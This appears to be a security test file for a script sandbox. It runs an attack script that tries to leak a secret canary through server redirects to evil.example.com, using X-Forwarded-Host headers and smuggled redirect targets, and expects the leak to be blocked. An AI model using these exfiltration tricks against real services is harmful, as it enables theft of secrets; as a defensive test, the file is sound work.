// A script that has a careless server make a redirect of a secret: to a host, a path or a query, in letters of either case.
import { type Attack, script, ts } from './attack.ts'

export const attack = {
  title: 'a redirect that a server makes of a secret is not followed, and where it leads is not told',
  threat: 'secrets',
  source: script(
    ts`async (_event: any, ctx: any) => {
  const seen: any[] = []
  const ends: any = {}
  const look = (text: string) => { if (/secret-canary/i.test(text)) seen.push(text) }
  const ask = async (wish: string, init: any = {}) => {
    const headers = { 'X-Forwarded-Host': init.host ?? '{{secret:SEND}}.evil.example.com' }
    try {
      const response = await ctx.http.fetch('http://ok.example.com/moved?' + wish, { ...init, headers })
      for (const each of [response.url, response.statusText, await response.text(), ...[...response.headers].flat()]) look(each)
      return response.status
    } catch (error: any) {
      look(error.name + error.message + error.stack + JSON.stringify(error))
      return error.code ?? error.name
    }
  }
  const wishes = ['', 'to=//HOST/', 'to=/login?host=HOST', 'to=/HOST', 'to=/%23HOST', 'to=/CODED', 'to=http://user:HOST@ok.example.com/', 'to=http://other.example.com/CODED', 'to=javascript:HOST', 'to=http://[HOST]/']
  for (const wish of wishes) for (const letters of ['', '&upper']) for (const status of [301, 303, 308]) {
    const end = await ask(wish + letters + '&status=' + status)
    ends[end] = (ends[end] ?? 0) + 1
  }
  const others = [
    await ask('upper', { method: 'POST', body: 'x' }),
    await ask('upper', { redirect: 'error' }),
    await ask('', { host: 'user:{{secret:SEND}}@evil.example.com' }),
    await ask('', { redirect: 'manual' }),
    await ask('upper', { redirect: 'manual' }),
    await ask('to=/CODED&upper', { redirect: 'manual', host: '/{{secret:SEND}}/' }),
  ]
  return [seen, ends, others, await ask('', { host: 'ok.example.com' })]
}`,
    { needs: "{ http: ['http://*.example.com'], secrets: ['SEND'] }" },
  ),
  policy: {
    allow: { http: ['http://*.example.com'], secrets: { SEND: ['http://ok.example.com'] } },
    limits: { cpu: '5s', wall: '30s' },
  },
  expect: {
    status: 'ok',
    value: [[], { HTTP_FAILED: 60 }, ['HTTP_FAILED', 'HTTP_FAILED', 'HTTP_FAILED', 302, 302, 302], 200],
  },
} satisfies Attack
